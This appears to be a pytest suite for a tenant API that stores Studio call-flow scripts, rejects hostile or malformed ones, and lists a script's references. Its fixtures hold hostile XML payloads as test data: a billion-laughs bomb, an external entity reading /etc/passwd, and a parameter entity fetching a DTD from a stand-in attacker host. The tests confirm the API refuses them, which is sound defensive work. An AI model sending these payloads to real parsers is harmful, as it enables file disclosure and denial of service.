"""Studio scripts over the API: stored as given, hostile or malformed ones refused, and
GET /tenants/{t}/scripts/{id}/references listing what a script refers to (SPEC §3)."""

from __future__ import annotations

import pytest

from lifeboat.domain.scripts import DEFAULT_MAX_SCRIPT_BYTES
from tests.examples import SCRIPT, TenantApi, error_of, new_tenant
from tests.shared_platform import shared_api, shared_platform, tenant_name  # noqa: F401

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<Script><ActionStruct><Action ID="1" Name="SNIPPET"/>
<Parameters><Parameter Name="Data">&lol4;</Parameter></Parameters></ActionStruct></Script>"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE Script [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<Script><ActionStruct><Action ID="1" Name="SNIPPET"/>
<Parameters><Parameter Name="Data">&secret;</Parameter></Parameters></ActionStruct></Script>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE Script [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<Script><ActionStruct><Action ID="1" Name="HOURS"/></ActionStruct></Script>"""

DOCTYPE_ALONE = """<!DOCTYPE Script>
<Script><ActionStruct><Action ID="1" Name="HOURS"/></ActionStruct></Script>"""

HOSTILE = {
    "billion-laughs": BILLION_LAUGHS,
    "external-entity": EXTERNAL_ENTITY,
    "parameter-entity": PARAMETER_ENTITY,
    "doctype": DOCTYPE_ALONE,
    "doctype-after-whitespace": "\n  " + DOCTYPE_ALONE,
    "doctype-after-bom": "\ufeff" + DOCTYPE_ALONE,
}


@pytest.fixture
def acme(shared_api) -> TenantApi:
    return new_tenant(shared_api, tenant_name("Acme"))


def studio(*actions: tuple[str, str, list[tuple[str, object]]]) -> dict:
    """A Studio JSON script with (action id, action name, [(property, value)])."""
    return {
        "header": {"name": "Inbound/Main", "mediaType": "voice"},
        "actions": {aid: {"name": name} for aid, name, _ in actions},
        "properties": {
            aid: {str(i): {"name": p, "value": v} for i, (p, v) in enumerate(props)} for aid, _, props in actions
        },
        "branches": {},
    }


def desktop_xml(*actions: tuple[str, str, list[tuple[str, str]]]) -> str:
    """The same script as a Desktop Studio XML export."""
    blocks = "".join(
        f'<ActionStruct><Action ID="{aid}" Name="{name}"/><Parameters>'
        + "".join(f'<Parameter Name="{p}">{v}</Parameter>' for p, v in props)
        + "</Parameters></ActionStruct>"
        for aid, name, props in actions
    )
    return f'<?xml version="1.0" encoding="utf-8"?>\n<Script>{blocks}</Script>'


def references(tenant: TenantApi, script_id: int):
    return tenant.api.get(f"/api/v1/tenants/{tenant.id}/scripts/{script_id}/references", headers=tenant.headers)


# --- storing scripts ----------------------------------------------------------------------


def test_a_studio_json_script_is_stored_and_returned_as_given(acme):
    content = studio(("1", "REQAGENT", [("Skill", "12"), ("Priority", ["1", "2"])]))

    created = acme.create("scripts", content=content)

    assert created["content"] == content
    assert acme.get("scripts", created["id"]).json()["content"] == content


def test_a_script_with_values_of_any_json_type_is_stored_and_returned_exactly(acme):
    content = studio(
        ("1", "BEGIN", [("RootFolder", 0), ("ParamCount", 0), ("Parameters", ["A", 2, None])]),
        ("2", "ASSIGN", [("Value", "{x}"), ("Publish", 0), ("Ratio", 1.5), ("On", True), ("Map", {"k": [1]})]),
    )
    content["branches"] = {"1": [{"to": 2, "label": 0, "type": "default", "index": 0}]}

    created = acme.create("scripts", content=content)

    stored = acme.get("scripts", created["id"]).json()["content"]
    assert created["content"] == stored == content
    assert [type(p["value"]) for p in stored["properties"]["1"].values()] == [int, int, list]
    assert type(stored["branches"]["1"][0]["label"]) is int


def test_a_desktop_studio_xml_export_is_stored_as_text(acme):
    text = desktop_xml(("1", "HOURS", [("Profile", "Default")]))

    created = acme.create("scripts", content=text)

    assert created["content"] == text


def test_json_text_is_stored_as_the_document_it_holds(acme):
    created = acme.create("scripts", content='{"actions": {"1": {"name": "HANGUP"}}}')

    assert created["content"] == {"actions": {"1": {"name": "HANGUP"}}}


@pytest.mark.parametrize("content", list(HOSTILE.values()), ids=list(HOSTILE))
def test_hostile_xml_is_refused_and_nothing_is_stored(acme, content):
    response = acme.post("scripts", acme.payload("scripts", content=content))

    assert response.status_code == 400
    error = error_of(response)
    assert error["code"] == "hostile_xml"
    assert "DOCTYPE" in error["message"]
    assert "root:" not in response.text and "lollol" not in response.text
    assert acme.get("scripts").json()["total"] == 0


def test_hostile_xml_cannot_replace_a_stored_script(acme):
    script = acme.create("scripts")

    response = acme.patch("scripts", script["id"], {"content": EXTERNAL_ENTITY})

    assert response.status_code == 400
    assert error_of(response)["code"] == "hostile_xml"
    assert acme.get("scripts", script["id"]).json()["content"] == SCRIPT


@pytest.mark.parametrize(
    "content",
    ['{"actions": {"1": {"name": "HOURS",}}}', "{'actions': {}}", "", "not a script", "<Script><ActionStruct>"],
)
def test_malformed_script_text_is_refused_as_malformed(acme, content):
    response = acme.post("scripts", acme.payload("scripts", content=content))

    assert response.status_code == 400
    assert error_of(response)["code"] == "malformed_script"


def test_a_malformed_script_says_where(acme):
    response = acme.post("scripts", acme.payload("scripts", content='{"actions":\n {"1": {"name": "HOURS",}}}'))

    error = error_of(response)
    assert error["details"]["line"] == 2
    assert "line 2" in error["message"]


@pytest.mark.parametrize(
    "content",
    [
        {"actions": ["REQAGENT"]},
        {"actions": {"1": {"label": "no name"}}},
        {"actions": {"1": {"name": "HOURS"}}, "properties": {"2": {}}},
        {"actions": {"1": {"name": "HOURS"}}, "properties": {"1": {"0": {"name": "Profile"}}}},
    ],
)
def test_a_json_script_of_the_wrong_shape_is_invalid(acme, content):
    response = acme.post("scripts", acme.payload("scripts", content=content))

    assert response.status_code == 422
    assert error_of(response)["code"] == "invalid_script"


@pytest.mark.parametrize("content", [["actions"], 42, None])
def test_script_content_must_be_a_document_or_text(acme, content):
    response = acme.post("scripts", acme.payload("scripts", content=content))

    assert response.status_code == 422
    assert {e["field"]: e["code"] for e in error_of(response)["details"]["errors"]} == {"content": "bad_script"}


def test_a_script_over_the_size_limit_is_413_with_the_limit(acme):
    big = studio(("1", "SNIPPET", [("Data", "x" * DEFAULT_MAX_SCRIPT_BYTES)]))

    response = acme.post("scripts", acme.payload("scripts", content=big))

    assert response.status_code == 413
    error = error_of(response)
    assert error["code"] == "script_too_large"
    assert error["details"]["limit"] == DEFAULT_MAX_SCRIPT_BYTES
    assert error["details"]["size"] > DEFAULT_MAX_SCRIPT_BYTES
    assert acme.get("scripts").json()["total"] == 0


def test_an_xml_script_over_the_size_limit_is_413(acme, shared_platform, monkeypatch):
    monkeypatch.setattr(shared_platform.settings, "max_script_bytes", 2048)
    text = desktop_xml(("1", "SNIPPET", [("Data", "x" * 2048)]))

    response = acme.post("scripts", acme.payload("scripts", content=text))

    assert response.status_code == 413
    assert error_of(response)["details"]["limit"] == 2048


# --- the references endpoint ----------------------------------------------------------------


@pytest.fixture
def world(acme):
    """A tenant with one of each thing a script may name."""
    return {
        "skill": acme.create("skills")["id"],
        "user": acme.create("users")["id"],
        "hours": acme.create("hours-of-operation")["id"],
        "disposition": acme.create("dispositions")["id"],
        "file": acme.create("files", path="prompts/welcome.wav")["path"],
        "subscript": acme.create("scripts", path="Inbound/Sub")["path"],
    }


def actions_naming(w: dict) -> list[tuple[str, str, list[tuple[str, str]]]]:
    return [
        ("1", "REQAGENT", [("Skill", str(w["skill"])), ("TargetAgent", str(w["user"])), ("Priority", "5")]),
        ("2", "HOURS", [("Profile", str(w["hours"]))]),
        ("3", "SETDISPOSITION", [("Skill", "{SkillNo}"), ("Disposition", str(w["disposition"]))]),
        ("4", "RUNSUB", [("ScriptName", w["subscript"])]),
        ("5", "PLAY", [("Sequence", f'"{w["file"]}" %"Thank you for calling"')]),
        ("6", "SUPPRESSCALL", [("Disposition", "Default")]),
        ("7", "ASSIGN", [("Value", f"{w['skill']} + 1")]),
        ("8", "SPAWN", [("Skill", "Billing"), ("ScriptName", "Inbound/Missing")]),
        ("9", "REQAGENT (digital)", [("Skill", "")]),
    ]


EXPECTED = [  # (action id, property, kind, target, exists)
    ("1", "Skill", "id", "skills", True),
    ("1", "TargetAgent", "id", "users", True),
    ("2", "Profile", "id", "hours-of-operation", True),
    ("3", "Skill", "variable", "skills", None),
    ("3", "Disposition", "id", "dispositions", True),
    ("4", "ScriptName", "path", "scripts", True),
    ("5", "Sequence", "path", "files", True),
    ("6", "Disposition", "default", "dispositions", None),
    ("7", "Value", "possible_id", "skills", True),
    ("8", "Skill", "name", "skills", None),
    ("8", "ScriptName", "path", "scripts", False),
    ("9", "Skill", "empty", "skills", None),
]


@pytest.mark.parametrize("shape", ["json", "xml"])
def test_references_list_every_reference_with_its_kind_type_and_whether_it_exists(acme, world, shape):
    actions = actions_naming(world)
    content = (
        studio(*actions)
        if shape == "json"
        else desktop_xml(
            *[(aid, name, [(p, v.replace('"', "&quot;")) for p, v in props]) for aid, name, props in actions]
        )
    )
    script = acme.create("scripts", content=content)

    response = references(acme, script["id"])

    assert response.status_code == 200, response.text
    body = response.json()
    found = [(r["action_id"], r["property"], r["kind"], r["target"], r["exists"]) for r in body["items"]]
    assert found == EXPECTED
    assert body["total"] == len(EXPECTED)
    values = {(r["action_id"], r["property"]): r["value"] for r in body["items"]}
    assert values[("1", "Skill")] == str(world["skill"])
    assert values[("5", "Sequence")] == world["file"]
    assert values[("7", "Value")] == str(world["skill"])
    assert {r["action"] for r in body["items"] if r["action_id"] == "9"} == {"REQAGENT (digital)"}


def test_an_id_of_the_wrong_type_or_of_nothing_does_not_exist(acme, world):
    script = acme.create(
        "scripts",
        content=studio(
            ("1", "HOURS", [("Profile", str(world["skill"]))]),
            ("2", "REQAGENT", [("Skill", "987654321")]),
        ),
    )

    items = references(acme, script["id"]).json()["items"]

    assert [(r["kind"], r["target"], r["exists"]) for r in items] == [
        ("id", "hours-of-operation", False),
        ("id", "skills", False),
    ]


def test_an_id_of_another_tenant_does_not_exist_here(shared_api, acme):
    other = new_tenant(shared_api, tenant_name("Other"))
    their_skill = other.need("skills")
    script = acme.create("scripts", content=studio(("1", "REQAGENT", [("Skill", str(their_skill))])))

    (item,) = references(acme, script["id"]).json()["items"]

    assert (item["kind"], item["exists"]) == ("id", False)


def test_free_text_numbers_that_are_not_ids_are_not_listed(acme, world):
    script = acme.create("scripts", content=studio(("1", "ASSIGN", [("Value", "987654321 * 2")])))

    assert references(acme, script["id"]).json() == {"items": [], "total": 0}


def test_list_values_give_one_reference_per_element_with_its_position(acme, world):
    script = acme.create("scripts", content=studio(("1", "REQAGENT", [("Skill", [str(world["skill"]), "Default"])])))

    items = references(acme, script["id"]).json()["items"]

    assert [(r["position"], r["kind"]) for r in items] == [(0, "id"), (1, "default")]


def test_integer_ids_and_suppresscall_are_references_and_checkcallsup_is_not(acme, world):
    script = acme.create(
        "scripts",
        content=studio(
            ("1", "REQAGENT", [("Skill", world["skill"]), ("TargetAgent", "")]),
            ("2", "SUPPRESSCALL", [("Disposition", world["disposition"])]),
            ("3", "CHECKCALLSUP", [("DataValue", "{dataValue}")]),
        ),
    )

    items = references(acme, script["id"]).json()["items"]

    assert [(r["action"], r["property"], r["value"], r["kind"], r["target"], r["exists"]) for r in items] == [
        ("REQAGENT", "Skill", world["skill"], "id", "skills", True),
        ("REQAGENT", "TargetAgent", "", "empty", "users", None),
        ("SUPPRESSCALL", "Disposition", world["disposition"], "id", "dispositions", True),
    ]


def test_a_whole_value_equal_to_an_id_in_an_unknown_action_is_a_possible_id_naming_what_it_matched(acme, world):
    skill = acme.get("skills", world["skill"]).json()
    script = acme.create(
        "scripts",
        content=studio(
            ("1", "WORKITEM", [("QueueId", str(skill["id"])), ("Retries", 3), ("Note", f"queue {skill['id']}")])
        ),
    )

    items = references(acme, script["id"]).json()["items"]

    assert [(r["property"], r["value"], r["kind"], r["exists"], r["matched"]) for r in items] == [
        ("QueueId", str(skill["id"]), "possible_id", True, {"type": "skills", "id": skill["id"], "name": skill["name"]})
    ]


def test_references_of_a_missing_script_are_not_found(acme):
    response = references(acme, 987654321)

    assert response.status_code == 404
    assert error_of(response)["code"] == "entity_not_found"


def test_references_of_a_skill_id_are_not_found(acme):
    skill = acme.create("skills")

    assert references(acme, skill["id"]).status_code == 404


def test_references_need_studio_view(acme):
    script = acme.create("scripts")
    agent = acme.as_user("acd.view", "agent")
    developer = acme.as_user("studio.view")

    assert references(agent, script["id"]).status_code == 403
    assert references(developer, script["id"]).status_code == 200
